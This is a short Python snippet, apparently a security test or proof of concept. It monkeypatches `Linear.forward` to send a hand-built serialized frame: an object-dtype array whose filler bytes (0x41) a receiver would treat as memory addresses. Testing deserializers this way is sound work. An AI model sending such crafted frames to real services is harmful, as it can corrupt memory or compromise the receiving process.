"""forward sends an array of Python objects, whose bytes would be taken for addresses."""

ARRAY = b"a\x00\x00\x00\x02|O\x01" + (1).to_bytes(8, "big") + b"\x41" * 8
Linear.forward = lambda self, x: write_frame(ARRAY)
